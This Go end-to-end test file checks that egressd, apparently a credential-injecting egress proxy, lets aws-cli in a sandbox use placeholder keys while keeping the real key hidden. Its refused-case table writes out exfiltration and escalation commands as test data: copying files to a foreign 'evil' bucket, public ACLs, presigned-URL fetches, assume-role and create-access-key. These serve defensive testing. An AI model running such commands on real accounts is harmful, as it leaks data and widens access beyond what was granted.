package inspect

import (
	"bytes"
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/internal/testaws"
	"github.com/egressd/egressd/policy"
	"github.com/egressd/egressd/record"
)

var realAWSKey = testaws.Key{ID: "ASIAREALREALREALREAL", Secret: "REALsecretREALsecretREALsecretREALsecret", Token: "REALtokenREALtokenREALtoken"}

const awsPolicy = `version: 1
allow:
  - acme-build.s3.eu-west-1.amazonaws.com
  - evil.s3.eu-west-1.amazonaws.com
  - s3.eu-west-1.amazonaws.com
  - sts.eu-west-1.amazonaws.com
  - dynamodb.eu-west-1.amazonaws.com
  - sqs.eu-west-1.amazonaws.com
  - eu-west-1.queue.amazonaws.com # to which aws-cli 1 sends
  - iam.amazonaws.com
  - ec2.eu-west-1.amazonaws.com
credentials:
  - {for: aws, from: {file: aws.profiles, profile: agent}, regions: [eu-west-1, us-east-1], services: [s3, sts, dynamodb, sqs, iam], buckets: [acme-build], account: "123456789012"}
tls: {ca_dir: ca, extra_roots: [lab.pem]}
`

// A cloud does what aws-cli asks for, for whoever has the real key, in every bucket.
type cloud struct {
	mu      sync.Mutex
	did     []string
	objects map[string][]byte
	parts   map[string][]byte // of the one upload
}

func (c *cloud) took() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	did := c.did
	c.did = nil
	return did
}

func (c *cloud) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	c.mu.Lock()
	defer c.mu.Unlock()
	scope, err := realAWSKey.Verify(r, body)
	if err != nil {
		c.did = append(c.did, "REFUSED "+err.Error())
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprintf(w, "<Error><Code>SignatureDoesNotMatch</Code><AWSAccessKeyId>%s</AWSAccessKeyId></Error>", realAWSKey.ID)
		return
	}
	c.did = append(c.did, fmt.Sprintf("%s %s %s%s owner=%s", scope.Service, r.Method, r.Host, r.URL.Path, r.Header.Get("X-Amz-Expected-Bucket-Owner")))
	if scope.Service == "s3" {
		c.s3(w, r, unchunked(r, body))
		return
	}
	switch said := string(body) + r.Header.Get("X-Amz-Target"); {
	case strings.Contains(said, "GetCallerIdentity"): // and a server that repeats what it was sent
		fmt.Fprintf(w, `<GetCallerIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/%s</Arn><UserId>%s</UserId><Account>123456789012</Account></GetCallerIdentityResult></GetCallerIdentityResponse>`,
			r.Header.Get("X-Amz-Security-Token"), realAWSKey.ID)
	case strings.Contains(said, "PutItem"):
		w.Header().Set("Content-Type", "application/x-amz-json-1.0")
		io.WriteString(w, "{}")
	case strings.Contains(said, "SendMessage"):
		if r.Header.Get("X-Amz-Target") != "" {
			w.Header().Set("Content-Type", "application/x-amz-json-1.0")
			io.WriteString(w, `{"MessageId":"m1"}`)
			return
		}
		io.WriteString(w, `<SendMessageResponse><SendMessageResult><MessageId>m1</MessageId></SendMessageResult></SendMessageResponse>`)
	}
}

// unchunked undoes the content coding aws-chunked.
func unchunked(r *http.Request, body []byte) (out []byte) {
	if !strings.Contains(r.Header.Get("Content-Encoding"), "aws-chunked") {
		return body
	}
	for {
		size, rest, _ := bytes.Cut(body, []byte("\r\n"))
		n, err := strconv.ParseInt(string(size), 16, 32)
		if err != nil || n == 0 {
			return out
		}
		out, body = append(out, rest[:n]...), rest[n+2:]
	}
}

func (c *cloud) s3(w http.ResponseWriter, r *http.Request, body []byte) {
	bucket, _, virtual := strings.Cut(r.Host, ".s3.")
	key := r.URL.Path
	if !virtual {
		bucket, key, _ = strings.Cut(strings.TrimPrefix(key, "/"), "/")
		key = "/" + key
	}
	name, q := bucket+key, r.URL.Query()
	switch {
	case r.Method == http.MethodPost && q.Has("uploads"):
		c.parts = map[string][]byte{}
		fmt.Fprintf(w, "<InitiateMultipartUploadResult><Bucket>%s</Bucket><Key>%s</Key><UploadId>u1</UploadId></InitiateMultipartUploadResult>", bucket, key[1:])
	case r.Method == http.MethodPut && q.Has("partNumber"):
		c.parts[q.Get("partNumber")] = body
		w.Header().Set("ETag", `"part`+q.Get("partNumber")+`"`)
	case r.Method == http.MethodPost && q.Has("uploadId"):
		var whole []byte
		for i := 1; i <= len(c.parts); i++ {
			whole = append(whole, c.parts[strconv.Itoa(i)]...)
		}
		c.objects[name] = whole
		io.WriteString(w, `<CompleteMultipartUploadResult><ETag>"whole"</ETag></CompleteMultipartUploadResult>`)
	case r.Method == http.MethodPut && r.Header.Get("X-Amz-Copy-Source") != "":
		c.objects[name] = c.objects[strings.TrimPrefix(r.Header.Get("X-Amz-Copy-Source"), "/")]
		io.WriteString(w, `<CopyObjectResult><ETag>"copy"</ETag></CopyObjectResult>`)
	case r.Method == http.MethodPut:
		c.objects[name] = body
		w.Header().Set("ETag", `"put"`)
	case key == "/" && bucket == "":
		io.WriteString(w, `<ListAllMyBucketsResult><Buckets><Bucket><Name>acme-build</Name><CreationDate>2026-01-01T00:00:00.000Z</CreationDate></Bucket></Buckets></ListAllMyBucketsResult>`)
	case key == "/":
		io.WriteString(w, `<ListBucketResult><IsTruncated>false</IsTruncated>`)
		for name, object := range c.objects {
			fmt.Fprintf(w, `<Contents><Key>%s</Key><Size>%d</Size><LastModified>2026-01-01T00:00:00.000Z</LastModified></Contents>`, html.EscapeString(strings.TrimPrefix(name, bucket+"/")), len(object))
		}
		io.WriteString(w, `</ListBucketResult>`)
	case c.objects[name] == nil:
		w.WriteHeader(http.StatusNotFound)
	case r.Method == http.MethodDelete:
		delete(c.objects, name)
		w.WriteHeader(http.StatusNoContent)
	default:
		w.Header().Set("ETag", `"whole"`)
		w.Header().Set("Last-Modified", "Thu, 01 Jan 2026 00:00:00 GMT")
		http.ServeContent(w, r, "", time.Unix(1767225600, 0), bytes.NewReader(c.objects[name]))
	}
}

// awsTools are the versions of aws-cli in the path.
func awsTools(t *testing.T) (all []string) {
	t.Helper()
	for _, dir := range filepath.SplitList(os.Getenv("PATH")) {
		if path, err := filepath.EvalSymlinks(filepath.Join(dir, "aws")); err == nil && !slices.Contains(all, path) {
			all = append(all, path)
		}
	}
	if all == nil {
		t.Fatal("aws-cli is not there: scripts/setup.sh installs it")
	}
	return all
}

// TestAWSWorksWithPlaceholders runs aws-cli against a cloud that knows the real key alone. Nothing that the sandbox has or gets
// holds it.
func TestAWSWorksWithPlaceholders(t *testing.T) {
	d := world.NewDaemon(t, awsPolicy)
	d.PutFile(t, "aws.profiles", fmt.Sprintf("[agent]\naws_access_key_id = %s\naws_secret_access_key = %s\naws_session_token = %s\n", realAWSKey.ID, realAWSKey.Secret, realAWSKey.Token))
	d.World.Zone.Delegate("com", func(q *dns.Msg) *dns.Msg {
		m := new(dns.Msg).SetReply(q)
		if q.Question[0].Qtype == dns.TypeA {
			m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(world.AllowedIPv4)}}
		}
		return m
	})
	t.Cleanup(func() { d.World.Zone.Delegate("com", nil) })
	d.Run(t, exec.Command(world.Egressd.Path(), "serve", "--config", d.Config))
	t.Cleanup(func() { d.Stop(t) })
	c := &cloud{objects: map[string][]byte{"evil/theirs": []byte("theirs")}}
	for _, host := range []string{
		"acme-build.s3.eu-west-1.amazonaws.com", "evil.s3.eu-west-1.amazonaws.com", "s3.eu-west-1.amazonaws.com", "sts.eu-west-1.amazonaws.com",
		"dynamodb.eu-west-1.amazonaws.com", "sqs.eu-west-1.amazonaws.com", "eu-west-1.queue.amazonaws.com", "iam.amazonaws.com", "ec2.eu-west-1.amazonaws.com",
	} {
		d.World.Origin.Sites.Store(host, c)
		t.Cleanup(func() { d.World.Origin.Sites.Delete(host) })
	}
	exported, err := exec.Command(world.Egressd.Path(), "env", "--config", d.Config).CombinedOutput()
	if err != nil || strings.Contains(string(exported), "REAL") || !strings.Contains(string(exported), "AWS_ACCESS_KEY_ID='ASIAEGRESSD") {
		t.Fatalf("%v: %s", err, exported)
	}
	var variables []string
	for line := range strings.Lines(string(exported)) {
		if strings.Contains(line, "EGRESSD") {
			variables = append(variables, line)
		}
	}
	dir := t.TempDir()
	large := bytes.Repeat([]byte("0123456789abcde\n"), 20<<16)
	for name, text := range map[string]string{"vars": strings.Join(variables, ""), "small": "of the sandbox", "large": string(large)} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	ca := d.AuthorityFile()
	for _, tool := range awsTools(t) {
		for _, row := range awsRows {
			t.Run(strings.ReplaceAll(tool, "/", "-")+" "+row.says, func(t *testing.T) {
				c.took()
				mark := d.LogMark(t)
				out, err := d.Shell(dir, ca, "set -a; . ./vars; export AWS_CA_BUNDLE=$LAB_CA AWS_CONFIG_FILE=$PWD/none AWS_SHARED_CREDENTIALS_FILE=$PWD/none AWS_DEFAULT_REGION=eu-west-1 AWS_EC2_METADATA_DISABLED=true AWS_MAX_ATTEMPTS=1 AWS_PAGER=; aws() { "+tool+" \"$@\"; }; "+row.command)
				did := strings.Join(c.took(), "\n")
				if (err == nil) != (row.did != "") || !strings.Contains(did, row.did) || row.did == "" && did != "" || !strings.Contains(out, row.prints) || strings.Contains(out, "REAL") {
					t.Errorf("%v, printed %q, did %q", err, out, did)
				}
				if row.did != "" {
					d.NothingRefused(t, mark)
				} else if !world.Eventually(world.Settling, func() bool {
					records, _ := d.Log.Since(mark)
					return slices.ContainsFunc(records, func(r record.Record) bool { return r.Outcome == record.Outcome(policy.CredentialRefused) })
				}) {
					t.Error("the log does not say that it was refused")
				}
			})
		}
	}
	if !world.Eventually(world.Settling, func() bool {
		records, _ := d.Log.Since(0)
		return slices.ContainsFunc(records, func(r record.Record) bool { return r.Kind == record.KindClose && r.Credential == "aws" })
	}) {
		t.Error("the log does not say which credential went")
	}
	if d.Log.Holds("REAL") || strings.Contains(d.Output.String(), "REAL") {
		t.Error("the log or what egressd says holds the key")
	}
}

// awsRows are commands, and what the cloud does; "" if egressd refuses.
var awsRows = []struct{ says, command, did, prints string }{
	{"who am I", "aws sts get-caller-identity", "sts POST sts.eu-west-1.amazonaws.com/", "user/*****"},
	{"put an item", `aws dynamodb put-item --table-name table --item '{"k":{"S":"v"}}'`, "dynamodb POST", ""},
	{"send a message", "aws sqs send-message --queue-url https://sqs.eu-west-1.amazonaws.com/123456789012/q --message-body x", "sqs POST", "m1"},
	{"a small file", "aws s3 cp small s3://acme-build/dir/small && aws s3 cp s3://acme-build/dir/small back && cmp small back", "s3 PUT acme-build.s3.eu-west-1.amazonaws.com/dir/small owner=123456789012", ""},
	{"a file in parts", "aws s3 cp large s3://acme-build/large && aws s3 cp s3://acme-build/large back && cmp large back", "s3 POST acme-build.s3.eu-west-1.amazonaws.com/large owner=123456789012", ""},
	{"from a pipe", "echo piped | aws s3 cp - s3://acme-build/piped && aws s3 cp s3://acme-build/piped -", "s3 PUT", "piped"},
	{"a list", "aws s3 ls s3://acme-build/dir/", "s3 GET acme-build.s3.eu-west-1.amazonaws.com/ owner=123456789012", "small"},
	{"buckets", "aws s3 ls", "s3 GET s3.eu-west-1.amazonaws.com/ owner=", "acme-build"},
	{"a range", "aws s3api get-object --bucket acme-build --key dir/small --range bytes=3-5 part && cat part", "s3 GET", "the"},
	{"a name with spaces and signs", "aws s3 cp small 's3://acme-build/a b+c=d&é' && aws s3 cp 's3://acme-build/a b+c=d&é' back && cmp small back", "s3 PUT", ""},
	{"a copy", "aws s3 cp s3://acme-build/dir/small s3://acme-build/copy && aws s3 cp s3://acme-build/copy -", "s3 PUT acme-build.s3.eu-west-1.amazonaws.com/copy", "of the sandbox"},
	{"removed", "aws s3 cp small s3://acme-build/old && aws s3 rm s3://acme-build/old", "s3 DELETE", ""},
	{"path style", "aws configure set default.s3.addressing_style path && AWS_CONFIG_FILE=$PWD/none aws s3 cp small s3://acme-build/x", "s3 PUT s3.eu-west-1.amazonaws.com/acme-build/x owner=123456789012", ""},

	{"a foreign bucket", "rm -f none; aws s3 cp small s3://evil/x", "", ""},
	{"from a foreign bucket", "aws s3 cp s3://evil/theirs -", "", ""},
	{"a copy out of it", "aws s3api copy-object --bucket acme-build --key x --copy-source evil/theirs", "", ""},
	{"public", "aws s3 cp small s3://acme-build/x --acl public-read", "", ""},
	{"a policy", `aws s3api put-bucket-policy --bucket acme-build --policy '{}'`, "", ""},
	{"a foreign key", "AWS_ACCESS_KEY_ID=AKIAFOREIGNFOREIGN01 AWS_SECRET_ACCESS_KEY=foreign aws s3 cp small s3://acme-build/x", "", ""},
	{"a signed URL", "curl -sS --fail --cacert $LAB_CA \"$(aws s3 presign --endpoint-url https://s3.eu-west-1.amazonaws.com s3://acme-build/dir/small)\"", "", ""},
	{"a new session", "aws sts get-session-token", "", ""},
	{"a role", "aws sts assume-role --role-arn arn:aws:iam::123456789012:role/x --role-session-name session", "", ""},
	{"a new key", "AWS_DEFAULT_REGION=us-east-1 aws iam create-access-key", "", ""},
	{"another service", "aws ec2 describe-instances", "", ""},
	{"signed by nobody", "aws s3 cp --no-sign-request small s3://acme-build/x", "", ""},
}
